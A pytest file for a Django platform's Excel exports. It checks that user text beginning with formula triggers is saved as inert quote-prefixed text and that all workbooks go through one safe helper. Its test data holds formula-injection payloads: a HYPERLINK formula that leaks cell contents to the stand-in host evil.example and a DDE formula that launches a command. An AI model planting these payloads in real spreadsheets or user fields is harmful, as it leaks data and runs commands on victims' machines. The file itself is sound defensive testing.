"""Every Excel workbook the platform offers writes user text as text: a title, a narrative or a name that
starts like a formula (OWASP CSV/formula injection) comes out as a readable text cell, never a formula,
and numbers stay numbers. The exports are enumerated: a module that builds a workbook without
`innozone.core.exports.new_workbook`, or a workbook builder this file does not open, fails a test."""

import ast
import io
import sys
from decimal import Decimal
from pathlib import Path

import pytest
from django.db.models import F, Value
from django.db.models.functions import Concat
from django.urls import reverse
from openpyxl import load_workbook

from innozone.core import audit
from innozone.core.exports import FORMULA_TRIGGERS, SafeWorkbook, new_workbook, workbook_bytes
from innozone.core.models import Organization

PACKAGE = Path(__file__).resolve().parents[2] / "innozone"

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"x")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, DDE, "+1+1", "@SUM(A1)", "-2+3", "\t=1+1", "\r=1+1"]


def _cells(data: bytes):
    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            yield from row


# ---------------------------------------------------------------- the helper


def test_hostile_text_is_written_as_text_and_numbers_stay_numbers():
    wb = new_workbook()
    wb.active.append([*HOSTILE, "普通文本", Decimal("1234.50"), 7, 2.5])
    wb.create_sheet().cell(1, 1, DDE)
    cells = list(_cells(workbook_bytes(wb)))
    texts, numbers = cells[: len(HOSTILE) + 1], cells[len(HOSTILE) + 1 : -1]
    assert [c.value for c in texts] == [*HOSTILE, "普通文本"]
    assert {c.data_type for c in texts} == {"s"}
    assert [c.quotePrefix for c in texts] == [True] * len(HOSTILE) + [False]
    assert [(c.data_type, c.value) for c in numbers] == [("n", Decimal("1234.50")), ("n", 7), ("n", 2.5)]
    assert (cells[-1].value, cells[-1].data_type, cells[-1].quotePrefix) == (DDE, "s", True)


def test_saving_the_workbook_itself_is_as_safe_as_workbook_bytes():
    wb = new_workbook()
    wb.active["A1"] = HYPERLINK
    buf = io.BytesIO()
    wb.save(buf)
    (cell,) = _cells(buf.getvalue())
    assert (cell.value, cell.data_type) == (HYPERLINK, "s")


def test_the_triggers_are_owasps():
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}


# ---------------------------------------------------------------- every module goes through the helper


def _modules():
    for path in sorted(PACKAGE.rglob("*.py")):
        if "migrations" not in path.parts:
            yield path, ast.parse(path.read_text(encoding="utf-8"))


def test_only_the_helper_makes_openpyxl_or_pandas_workbooks():
    offenders = []
    for path, tree in _modules():
        if path == PACKAGE / "core" / "exports.py":
            continue
        for node in ast.walk(tree):
            if isinstance(node, ast.ImportFrom) and node.module and node.module.startswith("openpyxl"):
                names = {a.name for a in node.names}
                if names & {"Workbook", "workbook", "*"} or node.module.startswith(
                    ("openpyxl.workbook", "openpyxl.writer")
                ):
                    offenders.append(f"{path.relative_to(PACKAGE)}:{node.lineno}")
            elif isinstance(node, ast.Attribute) and node.attr in ("Workbook", "to_excel", "ExcelWriter"):
                offenders.append(f"{path.relative_to(PACKAGE)}:{node.lineno}")
    assert offenders == [], "build workbooks with innozone.core.exports.new_workbook"


def _builders() -> set[str]:
    """Every function that calls new_workbook(), as module:function."""
    found = set()
    for path, tree in _modules():
        module = ".".join(path.relative_to(PACKAGE.parent).with_suffix("").parts)
        for func in ast.walk(tree):
            if isinstance(func, ast.FunctionDef | ast.AsyncFunctionDef):
                for node in ast.walk(func):
                    if isinstance(node, ast.Call) and getattr(node.func, "id", getattr(node.func, "attr", "")) == (
                        "new_workbook"
                    ):
                        found.add(f"{module}:{func.name}")
    return found - {"innozone.core.exports:new_workbook"}


# ---------------------------------------------------------------- every export, with hostile data


@pytest.fixture
def hostile(busy_innovation, monkeypatch):
    """The full demo with formula-like text planted in every kind of user text the exports carry; records
    which workbook builders ran."""
    from innozone.core.models import User
    from innozone.enterprises.models import Enterprise
    from innozone.evaluation.demo import seed_evaluation, seed_evaluation_run
    from innozone.market.models import TechContract
    from innozone.plans.models import Plan, Task
    from tests.factories import ReportFactory

    Organization.objects.update(name=Concat(Value(HYPERLINK + " "), F("name")))
    Enterprise.objects.update(name=Concat(Value("=1+2 "), F("name")))
    from innozone.carriers.models import Carrier
    from innozone.platforms.models import Platform, Team
    from innozone.talent.models import Expert, Person

    Platform.objects.update(name=Concat(Value("=9+9 "), F("name")))
    Team.objects.update(name=Concat(Value("-8+8 "), F("name")))
    Carrier.objects.update(name=Concat(Value("@7 "), F("name")))
    Person.objects.update(name=Concat(Value("+6+6 "), F("name")))
    Expert.objects.update(name=Concat(Value("=5+5 "), F("name")))
    TechContract.objects.update(title=Concat(Value(DDE + " "), F("title")))
    plan = Plan.objects.get(year=2020)
    Task.objects.filter(plan=plan).update(text=Concat(Value("+1+1 "), F("text")))
    task = plan.tasks.order_by("order").first()
    ReportFactory(task=task, organization=Organization.objects.first(), narrative="@SUM(A1) 进展")
    office = User.objects.get(username="office")
    audit.record(actor=office, action="test.hostile", obj=office, summary="-2+3 摘要")
    run = seed_evaluation_run(seed_evaluation())
    run.results["rows"] = [[DDE if v == row[1] else v for v in row] for row in run.results["rows"]]
    run.save(update_fields=["results"])

    ran = set()
    original = SafeWorkbook.__init__

    def recording_init(self, *args, **kwargs):
        caller = sys._getframe(2)  # SafeWorkbook() ← new_workbook() ← the builder
        ran.add(f"{caller.f_globals['__name__']}:{caller.f_code.co_name}")
        original(self, *args, **kwargs)

    monkeypatch.setattr(SafeWorkbook, "__init__", recording_init)
    return {"office": office, "plan": plan, "run": run, "ran": ran}


def _exports(h):
    from innozone.market.models import TechContract
    from innozone.vouchers.models import Scheme, SettlementBatch

    year = TechContract.objects.order_by("signed_on").first().signed_on.year
    batch = SettlementBatch.objects.order_by("pk").first()
    scheme = Scheme.objects.order_by("pk").first()
    plan, run = h["plan"].pk, h["run"].pk
    from innozone.platforms.models import Assessment

    assessed = Assessment.objects.order_by("year").values_list("year", flat=True).first()
    from innozone.investment.models import Chain, Link

    chain = Chain.objects.create(code="HOSTILE", name="=3+3 链")
    Link.objects.create(chain=chain, segment="up", name="=4+4 环节")
    # url, the planted text that must come out readable in it (None: the export carries no user text)
    return [
        (reverse("audit") + "?format=xlsx", "-2+3 摘要"),
        (reverse("plans:export", args=[plan, "responsibilities"]), "+1+1 "),
        (reverse("plans:export", args=[plan, "progress"]), "@SUM(A1) 进展"),
        (reverse("vouchers:office_vouchers") + "?format=xlsx", HYPERLINK),
        (reverse("vouchers:office") + f"?scheme={scheme.pk}&format=xlsx", HYPERLINK),
        (reverse("vouchers:settlement_export", args=[batch.pk]), HYPERLINK),
        (reverse("market:contracts") + f"?year={year}&format=xlsx", DDE),
        (reverse("evaluation:export", args=[run]), DDE),
        (reverse("evaluation:template"), None),
        (reverse("enterprises:list") + "?format=xlsx", "=1+2 "),
        (reverse("enterprises:import_template"), None),
        (reverse("platforms:list") + "?format=xlsx", "=9+9 "),
        (reverse("platforms:team_list") + "?format=xlsx", "-8+8 "),
        (reverse("platforms:evaluation_results") + f"?year={assessed}&format=xlsx", "=9+9 "),
        (reverse("carriers:list") + "?format=xlsx", "@7 "),
        (reverse("talent:people") + "?format=xlsx", "+6+6 "),
        (reverse("talent:experts") + "?format=xlsx", "=5+5 "),
        (reverse("onestop:stats") + "?format=xlsx", None),  # department names: the registry's, never typed here
        (reverse("investment:chain", args=[chain.pk]) + "?format=xlsx", "=4+4 "),
        (reverse("investment:chain_import_template"), None),
    ]


def test_every_export_writes_planted_formulas_as_readable_text(client, hostile):
    client.force_login(hostile["office"])
    for url, planted in _exports(hostile):
        response = client.get(url)
        assert response.status_code == 200, url
        cells = list(_cells(response.content))
        assert [c.coordinate for c in cells if c.data_type == "f"] == [], url
        texts = [c.value for c in cells if isinstance(c.value, str)]
        if planted:
            assert any(t.startswith(planted) for t in texts), (url, planted)
        for c in cells:
            if isinstance(c.value, str) and c.value.startswith(FORMULA_TRIGGERS):
                assert c.quotePrefix, (url, c.coordinate, c.value)
    assert hostile["ran"] == _builders(), "every workbook builder is opened by this test"


def test_table_workbook_writes_lazy_translations_as_their_text():
    """A choice label is a lazy translation; openpyxl refuses it, so the pack's Excel once failed with a 500."""
    from io import BytesIO

    from django.utils.translation import gettext_lazy
    from openpyxl import load_workbook

    from innozone.core.exports import table_workbook

    data = table_workbook("t", [gettext_lazy("状态")], [[gettext_lazy("建议支持")]])
    ws = load_workbook(BytesIO(data)).active
    assert ws["A2"].value == "建议支持"
